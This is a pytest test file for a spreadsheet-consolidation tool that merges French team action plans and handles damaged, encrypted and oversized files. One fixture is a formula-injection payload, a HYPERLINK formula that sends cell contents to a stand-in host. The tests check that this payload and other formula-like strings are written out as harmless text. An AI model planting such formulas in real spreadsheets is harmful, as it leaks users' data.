"""Consolidation of a folder of messy team files. Expected totals come from the data the files
were generated from; the output is read back with a second reader (openpyxl)."""

from __future__ import annotations

import csv
import io
import json
import math
import shutil
from datetime import date, datetime

import openpyxl
import pytest
import xlsxwriter
from click.testing import CliRunner
from libreoffice import convert

from pac_excel import GenerateOptions, PlanData, generate, schema
from pac_excel.analysis import analyze
from pac_excel.cli import main
from pac_excel.consolidation import consolidate

AS_OF = date(2026, 11, 16)
EVIL = '=HYPERLINK("http://x/?d="&A1,"Clic")'


def plan(team: str, n: int, seed: int) -> PlanData:
    """A team's plan: n actions with amounts that differ per team (to the cent)."""
    acts = [dict(action=f"{team} action {i}", owner=f"Owner {i % 3}", objective="OBJ-1",
                 category=["Prospection", "Communication", "Fidélisation"][i % 3],
                 status=["Terminé", "En cours", "À faire"][(i + seed) % 3],
                 budget_planned=round(100 * seed + 10.25 * i, 2), budget_actual=round(90 * seed + 9.5 * i, 2),
                 start=date(2026, 1 + i % 6, 1), end=date(2026, 2 + i % 10, 15), target=10 + i, result=8 + i)
            for i in range(n)]
    return PlanData(team=team, as_of=AS_OF, actions=acts,
                    kpis=[dict(name=f"Contacts {team}", initial=0, target=10, m01=seed)])


TEAMS = {  # file stem → (team field, actions, seed)
    "lyon": ("Lyon", 6, 1),
    "marseille": ("Marseille", 4, 2),
    "nantes": ("Nantes", 5, 3),
    "lyon_bis": ("Lyon", 2, 4),  # the same team name in a second file
    "evil": (EVIL, 3, 5),  # a team name that looks like a formula
}


@pytest.fixture(scope="module")
def folder(lo_available, tmp_path_factory):
    d = tmp_path_factory.mktemp("teams")
    src = tmp_path_factory.mktemp("src")
    for stem, (team, n, seed) in TEAMS.items():
        generate(src / f"{stem}.xlsx", GenerateOptions(year=2026), plan(team, n, seed))
    shutil.copy(src / "lyon.xlsx", d / "lyon.xlsx")
    shutil.copy(src / "lyon_bis.xlsx", d / "lyon_bis.xlsx")
    shutil.copy(src / "evil.xlsx", d / "evil.xlsx")
    ods = convert([src / "marseille.xlsx"], src / "ods", fmt="ods")[0]
    shutil.copy(ods, d / "marseille.ods")
    xls = convert([src / "nantes.xlsx"], src / "xls", fmt="xls")[0]
    shutil.copy(xls, d / "nantes.xls")
    # a home-made plan named NA: the team is the file name, kept verbatim
    wb = xlsxwriter.Workbook(d / "NA.xlsx")
    ws = wb.add_worksheet()
    ws.write_row(0, 0, ["Action", "Qui", "Budget", "Date fin", "Statut"])
    ws.write_row(1, 0, ["Salon", "NA", "1 000,50 €", "01/03/2026", "Terminé"])
    ws.write_row(2, 0, ["Mailing", "Zoé", 250, "01/12/2026", "En cours"])
    ws.write_row(3, 0, ["TOTAL", "", 1250.5])
    wb.close()
    # faults
    shutil.copy(d / "lyon.xlsx", d / "lyon (1).xlsx")  # byte-identical copy
    (d / "~$lyon.xlsx").write_bytes(b"\x00" * 165)  # Excel lock file
    (d / ".~lock.lyon.xlsx#").write_text("x,host,user\n")  # LibreOffice lock file
    (d / "half.xlsx").write_bytes((d / "lyon.xlsx").read_bytes()[:3000])  # truncated upload
    (d / "export.xlsx").write_text("action;budget\nx;1\n")  # a CSV renamed .xlsx
    (d / "empty.xlsx").write_bytes(b"")
    from msoffcrypto.format.ooxml import OOXMLFile  # a real password-protected workbook

    with open(src / "marseille.xlsx", "rb") as fh, open(d / "secret.xlsx", "wb") as out:
        OOXMLFile(fh).encrypt("motdepasse", out)
    wb = xlsxwriter.Workbook(d / "noplan.xlsx")
    wb.add_worksheet().write("A1", "Compte rendu de réunion")
    wb.close()
    (d / "readme.txt").write_text("not a plan")  # ignored: not a spreadsheet extension
    sub = d / "archives"
    sub.mkdir()
    generate(sub / "old.xlsx", GenerateOptions(year=2025), plan("Archives", 2, 9))
    return d


NA_ROWS = [(date(2026, 3, 1), "Terminé"), (date(2026, 12, 1), "En cours")]  # the end dates and statuses of NA.xlsx

EXPECTED_STATUS = {
    "lyon.xlsx": ("ok", None), "lyon_bis.xlsx": ("ok", None), "evil.xlsx": ("ok", None),
    "marseille.ods": ("ok", None), "nantes.xls": ("ok", None), "NA.xlsx": ("ok", None),
    "lyon (1).xlsx": ("skipped", "duplicate"), "~$lyon.xlsx": ("skipped", "lock_file"),
    ".~lock.lyon.xlsx#": ("skipped", "lock_file"), "half.xlsx": ("rejected", "truncated"),
    "export.xlsx": ("rejected", "not_a_spreadsheet"), "empty.xlsx": ("rejected", "empty"),
    "noplan.xlsx": ("rejected", "no_action_table"), "secret.xlsx": ("rejected", "encrypted"),
}


def _money(values) -> float:
    return round(math.fsum(v for v in values if v is not None), 2)


def expected_budget(stems) -> float:
    vals = [a["budget_planned"] for s in stems for a in plan(*((TEAMS[s][0],) + TEAMS[s][1:])).actions]
    return _money(vals)


def test_every_file_is_accounted_for(folder):
    res = consolidate([folder], as_of=AS_OF)
    got = {f.path.name: (f.status, f.code) for f in res.files}
    assert got == EXPECTED_STATUS  # readme.txt ignored, archives/ not scanned without -r
    dup = next(f for f in res.files if f.code == "duplicate")
    assert "lyon.xlsx" in dup.reason_text("fr") and "lyon (1)" not in dup.reason_text("fr")
    from corpus_run import non_blank_rows_after

    for f in res.files:
        rows = f.rows()
        if f.status == "ok":  # rows holding anything below the header, counted by another reader
            sheet = f.analysis.actions[0].sheet
            assert rows["detected"] == non_blank_rows_after(str(f.path), sheet, f.analysis.header_row), f.path.name
        else:
            assert rows["detected"] == 0
        assert rows["detected"] == rows["consolidated"] + rows["ignored"] + rows["rejected"], f.path.name
        if f.status == "rejected":
            assert f.reason_text("fr") and str(f.path) in f.reason_text("fr")
    na = next(f for f in res.files if f.path.name == "NA.xlsx")
    assert na.rows() == {"detected": 3, "consolidated": 2, "ignored": 1, "rejected": 0}  # the TOTAL row


def test_totals_reconcile_and_match_the_generating_data(folder):
    res = consolidate([folder], as_of=AS_OF)
    tot = res.totals()
    per_file = [f.analysis.totals() for f in res.ok]
    assert tot["actions"] == sum(t["actions"] for t in per_file)
    assert tot["budget_planned"] == _money(t["budget_planned"] for t in per_file)
    n_generated = sum(n for _, n, _ in TEAMS.values())
    assert tot["actions"] == n_generated + 2  # + the two actions of NA.xlsx, not its TOTAL row
    assert tot["budget_planned"] == round(expected_budget(TEAMS) + 1000.5 + 250, 2)
    teams = res.by_team()
    assert set(teams) == {"Lyon", "Lyon (2)", "Marseille", "Nantes", "NA", EVIL}  # "NA" is a team
    assert teams["Marseille"]["budget_planned"] == expected_budget(["marseille"])  # read from .ods
    assert teams["Nantes"]["budget_planned"] == expected_budget(["nantes"])  # read from .xls
    na_late = sum(end < AS_OF and status != "Terminé" for end, status in NA_ROWS)
    assert teams["NA"] == {"actions": 2, "budget_planned": 1250.5, "budget_actual": None, "late": na_late,
                           "currency": None}  # its headers name none
    assert {teams[t]["currency"] for t in ("Lyon", "Marseille", "Nantes")} == {"EUR"}
    late = sum(1 for s in TEAMS for a in plan(*((TEAMS[s][0],) + TEAMS[s][1:])).actions
               if a["end"] < AS_OF and a["status"] != "Terminé")
    assert tot["late"] == late + na_late
    clash = [p for p in res.all_problems() if p.code == "team_name_clash"]
    assert len(clash) == 1 and clash[0].file.endswith("lyon_bis.xlsx")


def test_recursive_scan_adds_subfolders(folder):
    res = consolidate([folder], as_of=AS_OF, recursive=True)
    assert "old.xlsx" in {f.path.name for f in res.ok}


def test_threads_give_the_same_result(folder):
    a = consolidate([folder], as_of=AS_OF, jobs=1).to_dict()
    b = consolidate([folder], as_of=AS_OF, jobs=4).to_dict()
    assert a == b


def test_cli_output_agrees_with_json_and_reads_back(folder, tmp_path):
    out, csv_out = tmp_path / "conso.xlsx", tmp_path / "conso.csv"
    r = CliRunner().invoke(main, ["consolidate", str(folder), "-o", str(out), "--csv", str(csv_out),
                                  "--format", "json", "--as-of", "2026-11-16"])
    assert r.exit_code == 1, r.output  # some inputs were rejected; the output is still written
    d = json.loads(r.output)
    assert set(d) == {"files", "currency", "totals", "totals_by_currency", "by_team", "by_category", "by_owner",
                      "problems"}
    assert all(set(f) == {"path", "team", "status", "code", "reason", "rows"} for f in d["files"])
    assert all(set(p) == {"severity", "code", "file", "sheet", "cell", "message"} for p in d["problems"])
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Synthèse", "Plan d’actions", "Indicateurs", "Journal", "Problèmes"]
    ws = wb["Plan d’actions"]
    headers = [c.value for c in ws[1]]
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(rows) == d["totals"]["actions"]
    budget = headers.index(schema.ACTIONS.column("budget_planned").label("fr"))
    assert _money(r[budget] for r in rows) == d["totals"]["budget_planned"]
    team_col = headers.index("Équipe")
    evil_cells = [row[team_col] for row in ws.iter_rows(min_row=2) if row[team_col].value == EVIL]
    assert evil_cells and all(c.data_type == "s" for c in evil_cells)  # injected formula stays text
    journal = list(wb["Journal"].iter_rows(min_row=2, values_only=True))
    assert len(journal) == len(d["files"])
    assert len(list(wb["Indicateurs"].iter_rows(min_row=2))) == sum(1 for _ in TEAMS)
    # LibreOffice loads the (streamed) workbook and keeps its Table
    lo = openpyxl.load_workbook(convert([out], tmp_path / "lo")[0])
    assert "T_Consolidation" in lo["Plan d’actions"].tables
    assert lo["Plan d’actions"].max_row == d["totals"]["actions"] + 1
    # the consolidated workbook is itself a plan pac-excel can analyse
    again = analyze(out, as_of=AS_OF)
    assert again.totals()["actions"] == d["totals"]["actions"]
    assert again.totals()["budget_planned"] == d["totals"]["budget_planned"]
    assert not [p for p in again.problems if p.code in ("unknown_column", "duplicate_column")]
    # CSV: formula-like cells are quoted
    text = csv_out.read_text(encoding="utf-8-sig")
    lines = list(csv.reader(io.StringIO(text), delimiter=";"))  # French dialect by default
    assert lines[0][:3] == ["Équipe", "Fichier", "Feuille"]
    assert any(line[0] == "'" + EVIL for line in lines[1:])


def test_strict_writes_nothing_when_a_file_is_rejected(folder, tmp_path):
    out = tmp_path / "conso.xlsx"
    r = CliRunner().invoke(main, ["consolidate", str(folder), "-o", str(out), "--strict"])
    assert r.exit_code == 1 and not out.exists()


def test_all_good_exits_0_and_never_writes_into_inputs(folder, tmp_path):
    good = tmp_path / "good"
    good.mkdir()
    for name in ("lyon.xlsx", "nantes.xls"):
        shutil.copy(folder / name, good / name)
    before = {p.name: p.read_bytes() for p in good.iterdir()}
    out = tmp_path / "conso.xlsx"
    r = CliRunner().invoke(main, ["consolidate", str(good), "-o", str(out)])
    assert r.exit_code == 0, r.output
    assert "2 consolidé(s), 0 rejeté(s)" in r.output
    assert {p.name: p.read_bytes() for p in good.iterdir()} == before
    r = CliRunner().invoke(main, ["consolidate", str(good), "-o", str(good / "lyon.xlsx"), "--force"])
    assert r.exit_code == 2 and (good / "lyon.xlsx").read_bytes() == before["lyon.xlsx"]
    r = CliRunner().invoke(main, ["consolidate", str(tmp_path / "nothing-here"), "-o", str(tmp_path / "x.xlsx")])
    assert r.exit_code != 0 and "Traceback" not in r.output


def test_nothing_readable_still_gives_a_well_formed_workbook(folder, tmp_path):
    bad = tmp_path / "bad"
    bad.mkdir()
    for name in ("half.xlsx", "empty.xlsx"):
        shutil.copy(folder / name, bad / name)
    out = tmp_path / "conso.xlsx"
    r = CliRunner().invoke(main, ["consolidate", str(bad), "-o", str(out)])
    assert r.exit_code == 1 and out.exists()
    wb = openpyxl.load_workbook(out)
    assert [c.value for c in wb["Plan d’actions"][1]][:2] == ["Équipe", "Source"]
    assert [c.value for c in wb["Journal"][1]][0] == "Fichier"
    assert len(list(wb["Journal"].iter_rows(min_row=2))) == 2


# ------------------------------------------------------------------------------------ runaway files
def _team_files(d, n: int) -> dict[str, float]:
    """n small team plans; file name → budget planned, computed from the generating data."""
    budgets = {}
    for i in range(n):
        data = plan(f"T{i}", 3, i + 1)
        generate(d / f"t{i}.xlsx", GenerateOptions(year=2026, force=True), data)
        budgets[f"t{i}.xlsx"] = round(math.fsum(a["budget_planned"] for a in data.actions), 2)
    return budgets


@pytest.mark.parametrize("grouped", [False, True])
def test_a_worker_that_dies_rejects_its_file_and_the_batch_goes_on(tmp_path, monkeypatch, grouped):
    """python-calamine aborts its process when an allocation fails under the memory bound: the
    worker dies, which breaks the whole pool. The file then read is retried alone, rejected when
    it kills that worker too, and the other files are read in a new pool (workers are forked:
    they carry the patched reader). ``grouped``: files sent two by two, the other file of the
    dead worker's group is read again and kept."""
    import os

    from pac_excel import consolidation as mod

    if grouped:
        monkeypatch.setattr(mod, "CHUNK_GROUPS", 1)
        assert [len(g) for g in mod._chunks([tmp_path / f"t{i}.xlsx" for i in range(5)], 2)] == [2, 2, 1]

    budgets = _team_files(tmp_path, 5)
    real = mod.analyze

    def dies_on_t2(path, **kw):
        if path.name == "t2.xlsx":
            os.abort()
        return real(path, **kw)

    monkeypatch.setattr(mod, "analyze", dies_on_t2)
    res = consolidate([tmp_path], as_of=AS_OF, jobs=2)
    status = {e.path.name: (e.status, e.code) for e in res.files}
    assert status == {name: ("rejected", "aborted") if name == "t2.xlsx" else ("ok", None) for name in budgets}
    assert res.totals()["budget_planned"] == round(math.fsum(v for k, v in budgets.items() if k != "t2.xlsx"), 2)
    dead = [e for e in res.files if e.code == "aborted"][0]
    assert "t2.xlsx" in dead.error.message("fr") and "1536 Mio" in dead.error.message("fr")


class _Unsendable:
    """An analysis result that cannot travel back from a worker process."""

    def __init__(self, exc: type[BaseException]) -> None:
        self.exc = exc

    def __reduce__(self):
        raise self.exc("cannot be sent")


@pytest.mark.parametrize("grouped", [False, True])
def test_a_result_that_cannot_come_back_rejects_its_file_only(tmp_path, monkeypatch, grouped):
    """Sending a worker's result back can fail (a MemoryError while pickling under the memory
    bound was seen in CI): the file is rejected (too_large, or unreadable with the reason), the
    other files are consolidated — also when it travelled in a group with another one."""
    from pac_excel import consolidation as mod

    if grouped:
        monkeypatch.setattr(mod, "CHUNK_GROUPS", 1)

    budgets = _team_files(tmp_path, 4)
    real = mod.analyze

    def unsendable(path, **kw):
        if path.name == "t1.xlsx":
            return _Unsendable(MemoryError)
        if path.name == "t3.xlsx":
            return _Unsendable(TypeError)
        return real(path, **kw)

    monkeypatch.setattr(mod, "analyze", unsendable)
    res = consolidate([tmp_path], as_of=AS_OF, jobs=2)
    status = {e.path.name: (e.status, e.code) for e in res.files}
    assert status == {"t0.xlsx": ("ok", None), "t1.xlsx": ("rejected", "too_large"),
                      "t2.xlsx": ("ok", None), "t3.xlsx": ("rejected", "unreadable")}
    t3 = [e for e in res.files if e.path.name == "t3.xlsx"][0]
    assert "cannot be sent" in t3.to_dict()["detail"] and "cannot be sent" not in t3.reason_text("fr")
    assert res.totals()["budget_planned"] == round(budgets["t0.xlsx"] + budgets["t2.xlsx"], 2)


_TIGHT = """
import json, resource, sys
from datetime import date
from pathlib import Path
from pac_excel import consolidation as mod

def tight(mib):  # just above what the forked worker already maps
    with open("/proc/self/status") as fh:
        mapped = int(fh.read().split("VmSize:")[1].split()[0]) * 1024
    resource.setrlimit(resource.RLIMIT_AS, (mapped + (24 << 20),) * 2)

mod._limit_memory = tight
res = mod.consolidate([Path(sys.argv[1])], as_of=date(2026, 11, 16), jobs=2)
print(json.dumps({"files": {e.path.name: [e.status, e.code] for e in res.files},
                  "budget_planned": res.totals()["budget_planned"]}))
"""


def test_memory_bound_rejects_a_huge_file_only(tmp_path):
    """A worker's address space is bounded; a file that needs more is rejected (a MemoryError in
    Python, or calamine aborting the worker), never the batch. The bound is set just above what
    a worker forked from a fresh process maps, so that a 100,000-row sheet exceeds it."""
    import subprocess
    import sys

    budgets = _team_files(tmp_path, 3)
    wb = xlsxwriter.Workbook(str(tmp_path / "huge.xlsx"), {"constant_memory": True})
    ws = wb.add_worksheet(schema.sheet_name("actions", "fr"))
    ws.write_row(0, 0, ["Action", "Qui", "Budget prévu", "Date fin"])
    for r in range(1, 100_001):
        ws.write_row(r, 0, [f"Action {r}", f"Vendeur {r % 7}", 100 + r, 46_000 + r % 300])
    wb.close()
    r = subprocess.run([sys.executable, "-c", _TIGHT, str(tmp_path)], capture_output=True, text=True, timeout=300)
    assert r.returncode == 0, r.stderr[-2000:]
    out = json.loads(r.stdout)
    assert {k: v[0] for k, v in out["files"].items()} == {**{name: "ok" for name in budgets}, "huge.xlsx": "rejected"}
    assert out["files"]["huge.xlsx"][1] in ("too_large", "aborted")
    assert out["budget_planned"] == round(math.fsum(budgets.values()), 2)


@pytest.mark.parametrize("jobs", [1, 2])
def test_time_limit_does_not_wait_for_a_slow_background_parse(tmp_path, monkeypatch, jobs):
    """A file whose sheet takes too long to parse (here: the background parse made slow) is
    rejected when its time limit expires, not when the parse ends; the other files are read."""
    import threading
    import time

    from pac_excel.read import workbook as wbmod

    budgets = _team_files(tmp_path, 3)
    monkeypatch.setattr(wbmod, "PREFETCH_FROM", 0)  # every action sheet parsed in the background
    real = wbmod.Workbook._parse

    def slow_for_t1(self, name):
        if self.path.name == "t1.xlsx" and threading.current_thread() is not threading.main_thread():
            time.sleep(8)
        return real(self, name)

    monkeypatch.setattr(wbmod.Workbook, "_parse", slow_for_t1)
    start = time.perf_counter()
    res = consolidate([tmp_path], as_of=AS_OF, jobs=jobs, timeout=1)
    assert time.perf_counter() - start < 6
    status = {e.path.name: (e.status, e.code) for e in res.files}
    assert status == {name: ("rejected", "timeout") if name == "t1.xlsx" else ("ok", None) for name in budgets}
    assert res.totals()["budget_planned"] == round(math.fsum(v for k, v in budgets.items() if k != "t1.xlsx"), 2)


def test_a_file_that_vanished_is_missing_in_plain_words(tmp_path):
    """A path that is not there: rejected as missing, the reason in French or English, the
    system's own text kept as the detail only."""
    res = consolidate([tmp_path / "nope.xlsx"], as_of=AS_OF, jobs=1)
    entry = res.files[0]
    assert (entry.status, entry.code) == ("rejected", "missing")
    assert entry.reason_text("fr") == f"{tmp_path / 'nope.xlsx'} : fichier introuvable."
    assert "Errno" not in entry.reason_text("en") and "Errno" in entry.to_dict()["detail"]


# ------------------------------------------------------------------------------------ the two writers
def _parts(path) -> dict:
    """What a person sees of a workbook, part by part: every cell written (value, type, number
    format, font, fill), the Tables, frozen panes, widths, header heights, print setup, the
    active sheet and the charts (their kind, titles, series and axis formats, from the XML)."""
    import re
    import zipfile

    import python_calamine

    wb = openpyxl.load_workbook(path)
    # values as python-calamine reads them (pac-excel's reader; openpyxl leaves the _x005F_
    # escape of an inline string as it is, where Excel, LibreOffice and calamine read "_")
    cal = python_calamine.CalamineWorkbook.from_path(str(path))
    out: dict = {"sheets": wb.sheetnames, "active": wb.active.title}
    for ws in wb.worksheets:
        values = cal.get_sheet_by_name(ws.title).to_python(skip_empty_area=False)
        cells = {}
        for row in ws.iter_rows():
            for c in row:
                if c.value is None:
                    continue
                f = c.font
                cells[c.coordinate] = (values[c.row - 1][c.column - 1], c.data_type, c.number_format, f.b, f.i, f.sz,
                                       f.name,
                                       f.color.rgb if f.color is not None else None,
                                       c.fill.fgColor.rgb if c.fill.fill_type else None,
                                       c.alignment.wrap_text, c.alignment.vertical)
        used = {c[:-len(c.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ"))] for c in cells} | {"A", "B", "C", "D", "E"}
        ps = ws.page_setup
        out[ws.title] = {
            "cells": cells,
            "tables": {t.name: (t.ref, t.tableStyleInfo.name, [col.name for col in t.tableColumns])
                       for t in ws.tables.values()},
            "freeze": ws.freeze_panes,
            "widths": {k: round(ws.column_dimensions[k].width, 1) for k in sorted(used)},
            "row1": ws.row_dimensions[1].height,
            "print": (ps.orientation, ps.paperSize, ws.sheet_properties.pageSetUpPr.fitToPage
                      if ws.sheet_properties.pageSetUpPr else None, ps.fitToWidth, ps.fitToHeight,
                      ws.print_title_rows, ws.print_area),
        }
    with zipfile.ZipFile(path) as z:
        charts = sorted(n for n in z.namelist() if n.startswith("xl/charts/chart"))
        out["charts"] = [(re.findall(r'<c:barDir val="(\w+)"', x), re.findall(r"<c:f>([^<]+)</c:f>", x),
                          re.findall(r"<a:t>([^<]+)</a:t>", x), re.findall(r'formatCode="([^"]+)"', x)[:1],
                          re.findall(r'<a:srgbClr val="(\w+)"', x)[:2])
                         for x in (z.read(n).decode() for n in charts)]
    return out


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_both_writers_write_the_same_workbook(folder, tmp_path, lang, monkeypatch):
    """Issue 17: the Actions rows are streamed as SpreadsheetML and spliced into the workbook
    XlsxWriter writes around them; the result is the workbook XlsxWriter writes alone, part by
    part — also through the writer the command line uses, fed file by file. A plan in CHF among
    the euro plans: amounts keep their own plan's currency format."""
    from pac_excel.report.consolidated import ConsolidatedWriter, write_workbook

    inputs = tmp_path / "in"
    shutil.copytree(folder, inputs)
    generate(inputs / "geneve.xlsx", GenerateOptions(year=2026, currency="CHF"), plan("Genève", 3, 7))
    c = consolidate([inputs], as_of=AS_OF, jobs=1, lang=lang)
    assert set(c.currencies()) == {"EUR", "CHF"}
    from pac_excel.report import book

    monkeypatch.setattr(book, "SPLICE_CHUNK", 1500)  # rows copied in many small chunks, as a large consolidation is
    paths = {way: tmp_path / f"{way}.xlsx" for way in ("streamed", "xlsxwriter", "writer")}
    write_workbook(c, paths["streamed"], lang)
    write_workbook(c, paths["xlsxwriter"], lang, stream=False)
    with ConsolidatedWriter(paths["writer"], lang) as w:
        for e in c.files:
            w.add(e)
        w.finish(c)
    streamed, ref, writer = (_parts(paths[way]) for way in ("streamed", "xlsxwriter", "writer"))
    for key in ref:
        assert streamed[key] == ref[key], key
        assert writer[key] == ref[key], key
    actions = ref[schema.ACTIONS.sheet(lang)]
    n = sum(len(e.analysis.actions) for e in c.ok)
    assert actions["tables"]["T_Consolidation"][0] == f"A1:{actions['tables']['T_Consolidation'][0].split(':')[1]}"
    assert actions["tables"]["T_Consolidation"][0].endswith(str(n + 1))
    money = {v[2] for k, v in actions["cells"].items() if isinstance(v[0], float) and "CHF" in v[2]}
    assert money  # the Genève amounts are in CHF
    from pac_excel.i18n import tx

    # the by-team chart; none by category: its amounts add two currencies, so they are unknown
    assert [chart[2] for chart in ref["charts"]] == [[tx("cons.by_team", lang)]]


TRICKY_TEXTS = ["Salon & co <2026>", "  espaces autour  ", "fin\xa0", "ligne 1\nligne 2", "retour\rchariot",
                "tab\tulation", "ctrl\x01\x02\x1f", "_x0041_ littéral", "non-caractère \ufffe\uffff",
                "émoji 📈 et accents éàç", "=1+1", "@SUM(A1)", "https://exemple.fr", "1 500"]


def test_streamed_rows_keep_every_text_as_xlsxwriter_writes_it(tmp_path):
    """The rows streamed as SpreadsheetML hold each text as XlsxWriter writes it: XML escapes,
    control characters as _xHHHH_ (a literal _xHHHH_ protected), spaces kept, formulas and
    links as text; dates, amounts and the Oui/Non of "En retard" alike. Compared with the
    workbook XlsxWriter writes alone, part by part, and with the texts as read from the plan,
    read back by python-calamine from the workbook and from LibreOffice's copy of it."""
    from pac_excel.report.consolidated import write_workbook

    inputs = tmp_path / "in"
    inputs.mkdir()
    wb = xlsxwriter.Workbook(inputs / "tricky.xlsx", {"strings_to_formulas": False, "strings_to_urls": False,
                                                      "strings_to_numbers": False})
    ws = wb.add_worksheet()
    day = wb.add_format({"num_format": "dd/mm/yyyy"})
    ws.write_row(0, 0, ["Action", "Qui", "Budget", "Date fin", "Statut"])
    for i, text in enumerate(TRICKY_TEXTS, 1):
        ws.write_string(i, 0, text)
        ws.write_string(i, 1, f"Qui {i}")
        ws.write_number(i, 2, 1000.125 * i)
        ws.write_datetime(i, 3, datetime(2026, 1 + i % 12, 1 + i), day)
        ws.write_string(i, 4, "En cours")
    wb.close()
    c = consolidate([inputs], as_of=AS_OF, jobs=1)
    held = [a.action for a in c.ok[0].analysis.actions]  # as read: surrounding spaces trimmed
    # (python-calamine leaves XlsxWriter's _xFFFE_ for U+FFFE, a non-character, as it is)
    assert [h for h in held if "FFFE" not in h] == [t.strip() for t in TRICKY_TEXTS if "\ufffe" not in t]
    write_workbook(c, tmp_path / "streamed.xlsx")
    write_workbook(c, tmp_path / "xlsxwriter.xlsx", stream=False)
    ref = _parts(tmp_path / "xlsxwriter.xlsx")
    assert _parts(tmp_path / "streamed.xlsx") == ref
    sheet = schema.ACTIONS.sheet("fr")
    import python_calamine

    for path in (tmp_path / "streamed.xlsx", convert([tmp_path / "streamed.xlsx"], tmp_path / "lo")[0]):
        rows = python_calamine.CalamineWorkbook.from_path(str(path)).get_sheet_by_name(sheet).to_python()
        col = rows[0].index(schema.ACTIONS.column("action").label("fr"))
        late = rows[0].index(schema.ACTIONS.column("late").label("fr"))
        got = [r[col] for r in rows[1:]]
        assert got == held, path
        assert {r[late] for r in rows[1:]} == {"Oui", "Non"}  # ended before AS_OF or not: words, not 1/0


def test_a_full_disk_while_writing_is_said_and_leaves_no_file(folder, tmp_path, monkeypatch):
    """Writing the consolidated workbook fails (the disk fills up while the rows are written):
    one line naming the output, exit 2… never a traceback, and no file, not even half a one."""
    import errno

    from pac_excel.report import book

    def full(self, *args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(book.RowStream, "write_rows", full)
    out = tmp_path / "out" / "conso.xlsx"
    out.parent.mkdir()
    r = CliRunner().invoke(main, ["consolidate", str(folder / "lyon.xlsx"), "-o", str(out)])
    assert r.exit_code != 0 and "Traceback" not in r.output
    assert "conso.xlsx" in r.output and "No space left on device" in r.output
    assert list(out.parent.iterdir()) == []
